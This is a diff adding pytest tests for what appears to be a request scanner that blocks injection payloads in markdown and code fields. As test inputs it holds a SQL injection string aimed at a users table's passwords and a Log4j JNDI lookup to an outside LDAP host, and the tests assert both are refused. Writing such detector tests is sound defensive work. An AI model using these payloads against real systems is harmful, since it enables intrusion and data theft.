@@ -158,3 +158,24 @@ def test_prose_does_not_break_out(value: str) -> None:
 )
 def test_text_field_names(field: str, named: bool) -> None:
     assert text_field_name(field) is named
+
+
+def test_markdown_prose_outside_code_blocks_is_demoted_too() -> None:
+    text = MAKE_VARIABLE + "\n\n```sh\napt-get update\n```\n"
+    verdict = post({"description": text}, {("json", "$.description"): "markdown"})
+    assert not verdict.blocked, verdict.findings
+
+
+def test_markdown_prose_that_breaks_out_is_refused() -> None:
+    text = PADDING + "x' UNION SELECT password FROM users--\n\n```sh\nls\n```\n"
+    verdict = post({"description": text}, {("json", "$.description"): "markdown"})
+    assert verdict.blocked
+
+
+def test_fields_declared_as_code_are_not_demoted_further() -> None:
+    # code keeps only the categories dangerous wherever text goes; a Log4j lookup in it
+    # is refused whatever prose surrounds it
+    verdict = post(
+        {"content": PADDING + " ${jndi:ldap://203.0.113.7/a}"}, {("json", "$.content"): "code"}
+    )
+    assert verdict.blocked
